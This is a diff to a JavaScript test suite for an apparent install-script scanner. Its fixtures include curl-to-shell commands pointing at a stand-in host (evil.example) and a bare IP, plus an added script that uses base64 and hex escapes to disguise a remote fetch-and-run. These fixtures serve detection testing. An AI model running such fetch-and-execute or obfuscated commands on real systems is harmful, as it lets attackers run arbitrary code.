@@ -34,6 +34,13 @@ describe("official installers", () => {
     expect(run('sh -c "$(curl -fsLS get.chezmoi.io evil.example/x)"')).toBe("blocked");
     expect(run('sh -c "$(curl -fsLS 203.0.113.9/get.chezmoi.io)"')).toBe("blocked");
   });
+
+  it("reads host-like words only as curl and wget arguments, and an unknown folded value as a target", () => {
+    const choco = "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n";
+    expect(scan("choco", { "scripts/install.ps1": choco }).decision).not.toBe("blocked");
+    const folded = '#!/bin/bash\nsrc=$(printf \'%s\' "$PRESET" | base64 -d)\neval "$(printf \'\\x63\\x75\\x72\\x6c\') -fsSL $src | $(printf \'\\x62\\x61\\x73\\x68\')"\n';
+    expect(scan("presets", { "scripts/p.sh": folded }).decision).toBe("blocked");
+  });
 });
 
 describe("a keychain token sent to its own vendor", () => {
